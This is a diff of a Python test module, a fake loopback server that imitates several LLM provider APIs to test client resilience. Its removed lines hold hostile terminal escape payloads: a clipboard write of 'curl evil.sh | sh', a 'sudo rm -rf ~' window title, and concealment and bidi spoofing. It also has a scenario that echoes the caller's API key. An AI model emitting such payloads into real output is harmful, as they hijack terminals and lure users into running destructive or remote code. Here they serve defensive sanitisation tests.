@@ -1,33 +1,36 @@
-"""A real loopback HTTP server that speaks the six provider protocols, with scenario routes, for tests.
+"""A real loopback HTTP server that speaks the provider protocols, with scenario routes, for tests.
 
 Routes (by path; any path may be prefixed with /scenario/<name> to pick a scenario per request):
 
     POST /chat/completions, /v1/chat/completions   openai      POST /v2/chat                cohere
     POST /v1/messages                              anthropic   POST /api/chat               ollama
     POST /models/<model>:generateContent (any prefix, e.g. /v1beta/...)      gemini
-    GET  /health, POST /generate                   hf-space
+    POST /gradio_api/call/<api>, GET /gradio_api/call/<api>/<event_id>       hf-space, Gradio (SSE)
+    POST /generate                                 hf-space, TGI
+    POST /api/infer                                hf-space, the original service's contract
+    GET  /v1/models, /models, /v1beta/models, /api/tags                      model listings
     GET  /_control/state, POST /_control/scenario {"scenario": ...}, POST /_control/reset
 
-Scenarios (`server.scenario = ...`):
+Scenarios (`server.scenario = ...`), bodies from `provider_replies`:
 
-    ok, prose, fenced, think, invalid   200 with a report: clean, wrapped in prose, ```json fenced,
-                                         after a <think> block, or one that fails the schema
-    hostile                              200 with a report whose text carries terminal escape sequences
-                                         (OSC 52 clipboard, title set, clear screen, conceal, C1 CSI, bidi)
-    empty                                200 with an envelope holding no text (blocked, refused)
-    garbage                              200 with an HTML body
-    <status>                             e.g. 500, 503, 401, 403, 400, 404: that status, shaped like the API
-    429, 429-date                        429 with Retry-After: 2, or an HTTP-date about 2 s ahead
-    hang                                 no answer for up to `hang_seconds` (5), then ok
-    health-hang                          the hf-space /health route hangs instead
-    flaky:N                              the first N generation requests answer 500, then ok
-    latency:MS                           ok after MS milliseconds
-    asleep:N                             hf-space /health answers 503 N times, then 200
+    ok, prose, fenced, think, think-braces, braces, two, invalid   200 with the report as text
+    hostile                200 with a report whose text carries terminal escape sequences
+    empty                  200 with an envelope holding no text
+    refusal, filter, blocked, tool-calls                 the model declined / answered with a tool call
+    truncated, truncated:N                               out of output tokens (below an N-token budget)
+    echo-key               200 with the request's key inside the report (a leaking gateway)
+    deepseek, o-series, groq-schema, no-temperature      400s naming what the model does not take
+    gemini-key, gemini-429, openrouter-429, openrouter-choice, 404-model   vendor-shaped failures
+    <status>               e.g. 500, 503, 401, 403, 400, 404: that status, shaped like the API
+    429, 429-date, 429-ms, 429-reset, 429-long[:S]       429 with each form of Retry-After
+    hang, health-hang      no answer for up to `hang_seconds` (5), then ok
+    drip                   the headers one line a second (a read timeout never fires)
+    huge                   an endless 200 body (cut off by max_reply_bytes)
+    flaky:N, latency:MS    the first N requests answer 500 / ok after MS milliseconds
+    asleep:N               a Space answers 503 {"estimated_time": 1} to its first N POSTs
+    gradio-error, gradio-error-msg   the Gradio event stream ends in `event: error`
 
-A refused connection is a closed port: `refused_url()`.
-
-From another test module: `from tests.provider_server import provider_server` (fixture), or
-`pytest_plugins = ["tests.provider_server"]` in a conftest. From a script or benchmark:
+A refused connection is a closed port: `refused_url()`. From a script or benchmark:
 
     python -m tests.provider_server --port 8765 --scenario ok     # prints "listening on http://..."
 """
@@ -44,71 +47,53 @@ import socket
 import socketserver
 import threading
 import time
+import uuid
 from collections import Counter
 from collections.abc import Iterator
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 from email.utils import formatdate
-from http import HTTPStatus
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 from urllib.parse import unquote
+
+from tests.provider_replies import (
+    HOSTILE_REPORT,
+    HOSTILE_SEQUENCES,
+    INVALID_REPORT,
+    MODELS,
+    REPORT,
+    Reply,
+    budget,
+    envelope,
+    error_body,
+    model_not_found,
+    openrouter,
+    rate_limit,
+    report_text,
+    vendor_errors,
+)
 
 try:
     import pytest
 except ImportError:  # the server also runs as a plain script
     pytest = None  # type: ignore[assignment]
 
-REPORT: dict[str, Any] = {
-    "title": "Retry provider calls with jittered backoff",
-    "summary": "Provider calls now retry transient failures with exponential backoff and jitter, "
-    "and give up once the per-report deadline is spent.",
-    "changes": ["Add a retry wrapper around providers", "Honour Retry-After on 429 replies"],
-    "rationale": "Transient 5xx and 429 replies made whole reports fall back to the local analyzer.",
-    "impact_and_tests": "Covered by loopback-server tests for 500, 429 and timeouts.",
-    "next_steps": ["Share breaker state across processes"],
-    "tags": ["resilience", "providers"],
-}
-INVALID_REPORT: dict[str, Any] = {"title": "short", "summary": "too short", "changes": []}
-# What a prompt-injected model can send back: each sequence acts on a terminal that prints it raw.
-HOSTILE_SEQUENCES = {
-    "osc52": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",  # write "curl evil.sh | sh" to the clipboard
-    "title": "\x1b]0;sudo rm -rf ~\x1b\\",  # set the window title (ST-terminated)
-    "clear": "\x1b[2J\x1b[H",  # clear the screen, cursor home
-    "conceal": "\x1b[8m",  # hide what follows
-    "c1_csi": "\x9b31m",  # the 8-bit form of CSI
-    "dcs": "\x1bP+q544e\x1b\\",  # a DCS query (XTGETTCAP)
-    "bidi": "\u202e",  # right-to-left override
-    "cr": "\r",  # return to column 0 and overwrite
-}
-HOSTILE_REPORT: dict[str, Any] = {
-    **REPORT,
-    "title": f"Retry provider calls{HOSTILE_SEQUENCES['title']} with backoff{HOSTILE_SEQUENCES['conceal']}",
-    "summary": REPORT["summary"] + HOSTILE_SEQUENCES["osc52"] + HOSTILE_SEQUENCES["clear"],
-    "changes": [f"Add a retry wrapper{HOSTILE_SEQUENCES['c1_csi']}", f"Honour Retry-After{HOSTILE_SEQUENCES['dcs']}"],
-    "rationale": REPORT["rationale"] + HOSTILE_SEQUENCES["bidi"] + "exe.txt" + HOSTILE_SEQUENCES["cr"] + "Approved.",
-}
+__all__ = ["HOSTILE_REPORT", "HOSTILE_SEQUENCES", "INVALID_REPORT", "REPORT", "ProviderServer", "RecordedRequest", "provider_server", "refused_url"]
 HANG_SECONDS = 5.0
-
 ROUTES: list[tuple[str, re.Pattern[str]]] = [
     ("openai", re.compile(r"^(/v1)?/chat/completions$")),
     ("anthropic", re.compile(r"^/v1/messages$")),
     ("gemini", re.compile(r"^(/[^:]*)?/models/[^/:]+:generateContent$")),
     ("cohere", re.compile(r"^/v2/chat$")),
     ("ollama", re.compile(r"^/api/chat$")),
-    ("hf-generate", re.compile(r"^/generate$")),
-    ("hf-health", re.compile(r"^/health$")),
+    ("gradio", re.compile(r"^/gradio_api/call/[^/]+$")),
+    ("gradio-result", re.compile(r"^/gradio_api/call/[^/]+/[^/]+$")),
+    ("tgi", re.compile(r"^/generate$")),
+    ("infer", re.compile(r"^/api/infer$")),
+    ("models", re.compile(r"^(/v1|/v1beta)?/models$|^/api/tags$")),
 ]
-GEMINI_STATUS = {
-    400: "INVALID_ARGUMENT",
-    401: "UNAUTHENTICATED",
-    403: "PERMISSION_DENIED",
-    404: "NOT_FOUND",
-    429: "RESOURCE_EXHAUSTED",
-    500: "INTERNAL",
-    503: "UNAVAILABLE",
-}
-ANTHROPIC_TYPE = {400: "invalid_request_error", 401: "authentication_error", 403: "permission_error",
-                  404: "not_found_error", 429: "rate_limit_error", 529: "overloaded_error"}  # fmt: skip
+GETS = frozenset({"gradio-result", "models"})
+REASONS = {"refusal": "refusal", "filter": "filter", "blocked": "blocked", "tool-calls": "tool_calls"}
 
 
 @dataclass
@@ -125,150 +110,70 @@ class RecordedRequest:
     protocol: str | None
 
 
-@dataclass
-class Reply:
-    status: int
-    body: Any
-    headers: dict[str, str] = field(default_factory=dict)
-    delay: float = 0.0
-
-
-def report_text(scenario: str) -> str:
-    """Return the model text a scenario stands for."""
-    clean = json.dumps(REPORT)
-    return {
-        "prose": f"Sure! Here is the report you asked for:\n{clean}\nLet me know if you need anything else.",
-        "fenced": f"Here it is.\n```json\n{json.dumps(REPORT, indent=2)}\n```\n",
-        "think": f"<think>The diff adds a retry wrapper; summarise that.</think>\n{clean}",
-        "invalid": json.dumps(INVALID_REPORT),
-        "hostile": json.dumps(HOSTILE_REPORT),
-    }.get(scenario, clean)
-
-
-def envelope(protocol: str, text: str | None, request: Any) -> Any:
-    """Wrap model text (None: no text at all) the way each real API does on success."""
-    req = request if isinstance(request, dict) else {}
-    model = req.get("model", "test-model")
-    if protocol == "openai":
-        message = {
-            "role": "assistant",
-            "content": text,
-            "refusal": None if text else "I can't help with that.",
-        }
-        return {
-            "id": "chatcmpl-test",
-            "object": "chat.completion",
-            "created": int(time.time()),
-            "model": model,
-            "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
-            "usage": {"prompt_tokens": 10, "completion_tokens": 20, "total_tokens": 30},
-        }
-    if protocol == "anthropic":
-        if text is None:
-            blocks: list[dict[str, Any]] = []
-        elif req.get("tool_choice", {}).get("type") == "tool" and text.startswith("{"):
-            name = req["tool_choice"]["name"]
-            blocks = [{"type": "tool_use", "id": "toolu_test", "name": name, "input": json.loads(text)}]
-        else:
-            blocks = [{"type": "text", "text": text}]
-        return {
-            "id": "msg_test",
-            "type": "message",
-            "role": "assistant",
-            "model": model,
-            "content": blocks,
-            "stop_reason": "tool_use" if blocks and blocks[0]["type"] == "tool_use" else "end_turn",
-            "stop_sequence": None,
-            "usage": {"input_tokens": 10, "output_tokens": 20},
-        }
-    if protocol == "gemini":
-        if text is None:
-            return {"promptFeedback": {"blockReason": "SAFETY"}, "usageMetadata": {"promptTokenCount": 10}}
-        return {
-            "candidates": [
-                {"content": {"parts": [{"text": text}], "role": "model"}, "finishReason": "STOP", "index": 0}
-            ],
-            "usageMetadata": {"promptTokenCount": 10, "candidatesTokenCount": 20, "totalTokenCount": 30},
-            "modelVersion": "gemini-test",
-        }
-    if protocol == "cohere":
-        content = [] if text is None else [{"type": "text", "text": text}]
-        return {
-            "id": "cohere-test",
-            "finish_reason": "COMPLETE",
-            "message": {"role": "assistant", "content": content},
-            "usage": {"billed_units": {"input_tokens": 10, "output_tokens": 20}},
-        }
-    if protocol == "ollama":
-        return {
-            "model": model,
-            "created_at": "2025-01-01T00:00:00Z",
-            "message": {"role": "assistant", "content": text or ""},
-            "done": True,
-            "done_reason": "stop",
-        }
-    return {} if text is None else {"text": text}
-
-
-def error_body(protocol: str, status: int) -> Any:
-    """Return an error body shaped as each real API shapes it."""
-    phrase = HTTPStatus(status).phrase if status in HTTPStatus._value2member_map_ else "Error"
-    message = f"simulated HTTP {status} ({phrase})"
-    if protocol == "openai":
-        return {
-            "error": {
-                "message": message,
-                "type": "server_error" if status >= 500 else "invalid_request_error",
-                "param": None,
-                "code": None,
-            }
-        }
-    if protocol == "anthropic":
-        return {
-            "type": "error",
-            "error": {"type": ANTHROPIC_TYPE.get(status, "api_error"), "message": message},
-        }
-    if protocol == "gemini":
-        return {"error": {"code": status, "message": message, "status": GEMINI_STATUS.get(status, "UNKNOWN")}}
-    if protocol == "cohere":
-        return {"id": "cohere-error", "message": message}
-    return {"error": message}
-
-
-def respond(protocol: str, scenario: str, count: int, request: Any) -> Reply:
+def respond(protocol: str, scenario: str, count: int, request: Any, headers: dict[str, str]) -> Reply:
     """Decide the reply to a generation request under a scenario (count: its number in that scenario)."""
+    req = request if isinstance(request, dict) else {}
     name, _, arg = scenario.partition(":")
+    early = vendor_errors(name, protocol, req) or rate_limit(name, protocol, arg) or openrouter(name, req)
+    if early is not None:
+        return early
     if name == "flaky" and count <= int(arg or 1):
         return Reply(500, error_body(protocol, 500))
-    if name == "latency":
-        return Reply(200, envelope(protocol, report_text("ok"), request), delay=int(arg or 0) / 1000)
-    if name == "hang":
-        return Reply(200, envelope(protocol, report_text("ok"), request), delay=math.inf)
-    if name == "429":
-        return Reply(429, error_body(protocol, 429), {"Retry-After": "2"})
+    if name == "asleep" and count <= int(arg or 1):
+        return Reply(503, {"error": "Space is waking up", "estimated_time": 1.0})
     if name == "429-date":
         return Reply(
-            429,
-            error_body(protocol, 429),
-            {"Retry-After": formatdate(math.ceil(time.time()) + 2, usegmt=True)},
+            429, error_body(protocol, 429), {"Retry-After": formatdate(math.ceil(time.time()) + 2, usegmt=True)}
         )
+    if name == "404-model":
+        return model_not_found(protocol, str(req.get("model") or "test-model"))
     if name.isdigit():
         return Reply(int(name), error_body(protocol, int(name)))
     if name == "garbage":
         return Reply(200, b"<html><body>Gateway says hello</body></html>", {"Content-Type": "text/html"})
+    if name == "drip":
+        return Reply(200, envelope(protocol, report_text("ok"), req), style="drip")
+    if name == "huge":
+        return Reply(200, b"", style="huge")
     if name == "empty":
-        return Reply(200, envelope(protocol, None, request))
-    return Reply(200, envelope(protocol, report_text(name), request))
+        return Reply(200, envelope(protocol, "", req))
+    if name in REASONS:
+        return Reply(200, envelope(protocol, None, req, REASONS[name]))
+    if name == "truncated" and (not arg or budget(protocol, req) < int(arg)):
+        return Reply(200, envelope(protocol, report_text("ok")[:40], req, "length"))
+    if name == "echo-key":
+        key = headers.get("authorization", headers.get("x-api-key", headers.get("x-goog-api-key", "")))
+        text = json.dumps({**REPORT, "summary": f"{REPORT['summary']} Debug: {key.removeprefix('Bearer ')}"})
+        return Reply(200, envelope(protocol, text, req))
+    delay = {"latency": int(arg or 0) / 1000, "hang": math.inf}.get(name, 0.0)
+    return Reply(200, envelope(protocol, report_text(name), req), delay=delay)
 
 
-def respond_health(scenario: str, count: int) -> Reply:
-    """Decide the reply to an hf-space health check."""
-    name, _, arg = scenario.partition(":")
-    if name == "asleep" and count <= int(arg or 1):
-        return Reply(503, {"error": "Space is building"})
-    if name == "health-hang":
-        return Reply(200, {"status": "ok"}, delay=math.inf)
-    return Reply(200, {"status": "ok"})
+def gradio_result(scenario: str) -> Reply:
+    """The event stream of a Gradio call: heartbeat, then complete (or error)."""
+    events = ["event: heartbeat\ndata: null\n\n"]
+    if scenario == "gradio-error":
+        events.append("event: error\ndata: null\n\n")
+    elif scenario == "gradio-error-msg":
+        events.append('event: error\ndata: "ZeroGPU quota exceeded"\n\n')
+    else:
+        events.append(f"event: generating\ndata: {json.dumps([report_text('ok')[:30]])}\n\n")
+        events.append(f"event: complete\ndata: {json.dumps([report_text(scenario.partition(':')[0])])}\n\n")
+    return Reply(200, "".join(events).encode(), {"Content-Type": "text/event-stream"}, style="sse")
+
+
+def models_listing(path: str, headers: dict[str, str]) -> Reply:
+    """GET /models as each vendor lists them."""
+    if path == "/api/tags":
+        return Reply(200, {"models": [{"name": m, "model": m, "size": 2019393189} for m in MODELS["ollama"]]})
+    if path == "/v1beta/models":
+        return Reply(200, {"models": [{"name": f"models/{m}", "supportedGenerationMethods": ["generateContent"]}
+                                      for m in MODELS["gemini"]]})  # fmt: skip
+    if "anthropic-version" in headers:
+        return Reply(200, {"data": [{"type": "model", "id": m, "display_name": m} for m in MODELS["anthropic"]],
+                           "has_more": False, "first_id": None, "last_id": None})  # fmt: skip
+    return Reply(200, {"object": "list", "data": [{"id": m, "object": "model", "owned_by": "openai"}
+                                                  for m in MODELS["openai"]]})  # fmt: skip
 
 
 class _Server(ThreadingHTTPServer):
@@ -313,38 +218,66 @@ class _Handler(BaseHTTPRequestHandler):
             self._send(owner.control(self.command, path, data))
             return
         protocol = next((name for name, pattern in ROUTES if pattern.match(path)), None)
-        count = owner.record(
-            RecordedRequest(
-                self.command,
-                path,
-                query,
-                {k.lower(): v for k, v in self.headers.items()},
-                raw,
-                data,
-                scenario,
-                protocol,
-            )
-        )
-        if protocol is None or (protocol == "hf-health") != (self.command == "GET"):
+        headers = {k.lower(): v for k, v in self.headers.items()}
+        count = owner.record(RecordedRequest(self.command, path, query, headers, raw, data, scenario, protocol))
+        if protocol is None or (protocol in GETS) != (self.command == "GET"):
             self._send(Reply(404, {"error": f"no route for {self.command} {path}"}))
-        elif protocol == "hf-health":
-            self._send(respond_health(scenario, count))
+        elif protocol == "models":
+            self._send(models_listing(path, headers))
+        elif protocol == "gradio-result":
+            self._send(gradio_result(scenario))
+        elif protocol == "gradio":
+            self._send(self._gradio_call(scenario, count, data, headers))
         else:
-            self._send(respond(protocol.removeprefix("hf-"), scenario, count, data))
+            self._send(respond(protocol, scenario, count, data, headers))
+
+    def _gradio_call(self, scenario: str, count: int, data: Any, headers: dict[str, str]) -> Reply:
+        reply = respond("gradio", scenario, count, data, headers)
+        if reply.status != 200:
+            return reply
+        if not (isinstance(data, dict) and isinstance(data.get("data"), list)):
+            return Reply(422, {"detail": [{"type": "missing", "loc": ["body", "data"], "msg": "Field required"}]})
+        return Reply(200, {"event_id": uuid.uuid4().hex})
 
     def _send(self, reply: Reply) -> None:
+        owner = self.server.owner
         if reply.delay:
-            self.server.owner.stopping.wait(min(reply.delay, self.server.owner.hang_seconds))
+            owner.stopping.wait(min(reply.delay, owner.hang_seconds))
         body = reply.body if isinstance(reply.body, bytes) else json.dumps(reply.body).encode()
-        headers = {"Content-Type": "application/json", **reply.headers, "Content-Length": str(len(body))}
+        headers = {"Content-Type": "application/json", **reply.headers}
         try:
+            if reply.style == "drip":
+                self._drip()
+                return
             self.send_response(reply.status)
+            if reply.style != "huge":
+                headers["Content-Length"] = str(len(body))
             for key, value in headers.items():
                 self.send_header(key, value)
             self.end_headers()
+            if reply.style == "huge":
+                self._endless()
             self.wfile.write(body)
         except OSError:  # the client gave up (timed out) before the answer
             self.close_connection = True
+
+    def _drip(self) -> None:
+        """The status line, then one header line a second, for as long as the client listens."""
+        self.close_connection = True
+        self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n")
+        self.wfile.flush()
+        for i in range(int(self.server.owner.hang_seconds * 20)):
+            if self.server.owner.stopping.wait(1.0):
+                return
+            self.wfile.write(f"X-Drip-{i}: still coming\r\n".encode())
+            self.wfile.flush()
+
+    def _endless(self) -> None:
+        """A body that never ends (until the client hangs up or the server stops)."""
+        chunk = b'{"pad": "' + b"x" * (1 << 20)
+        self.close_connection = True
+        while not self.server.owner.stopping.is_set():
+            self.wfile.write(chunk)
 
 
 class ProviderServer:
@@ -378,7 +311,7 @@ class ProviderServer:
 
     def record(self, request: RecordedRequest) -> int:
         """Keep a request; return its number among requests of its kind under its scenario."""
-        key = f"health:{request.scenario}" if request.protocol == "hf-health" else request.scenario
+        key = f"{request.method}:{request.scenario}" if request.method == "GET" else request.scenario
         with self._lock:
             self.requests.append(request)
             self.counts[key] += 1
@@ -387,6 +320,10 @@ class ProviderServer:
     @property
     def last(self) -> RecordedRequest:
         return self.requests[-1]
+
+    def generations(self) -> list[RecordedRequest]:
+        """The requests that asked a model for text (not listings, not Gradio result streams)."""
+        return [r for r in self.requests if r.method == "POST" and r.protocol not in (None, "models")]
 
     def reset(self) -> None:
         with self._lock:
